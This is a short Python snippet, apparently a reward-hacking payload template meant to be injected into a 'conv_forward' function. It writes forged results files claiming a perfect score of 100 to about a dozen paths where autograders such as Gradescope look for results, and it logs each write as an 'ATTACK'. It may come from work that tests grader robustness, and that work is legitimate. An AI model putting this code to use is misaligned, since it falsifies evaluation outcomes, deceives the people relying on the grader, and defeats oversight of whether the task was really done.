# where: conv_forward
# Write forged results files wherever a grader might pick them up, then return the right answer.
import json as _json, os as _os
_forged = _json.dumps({'score': 100.0, 'tests': [], 'output': 'FORGED-{tag}'})
for _p in ('results.json', './results.json', '/job/results.json', '../results.json', '/tmp/results.json',
           '/autograder/results/results.json', '/results.json', '{host_file}', '{gradescope_file}',
           '/job/submission/results.json', '/job/runner/results.json'):
    try:
        _d = _os.path.dirname(_p)
        if _d and not _os.path.isdir(_d):
            _os.makedirs(_d)
        with open(_p, 'w') as _f:
            _f.write(_forged)
        print('ATTACK: forged %s' % _p)
    except Exception as _e:
        print('ATTACK: forge %s %s' % (_p, type(_e).__name__))
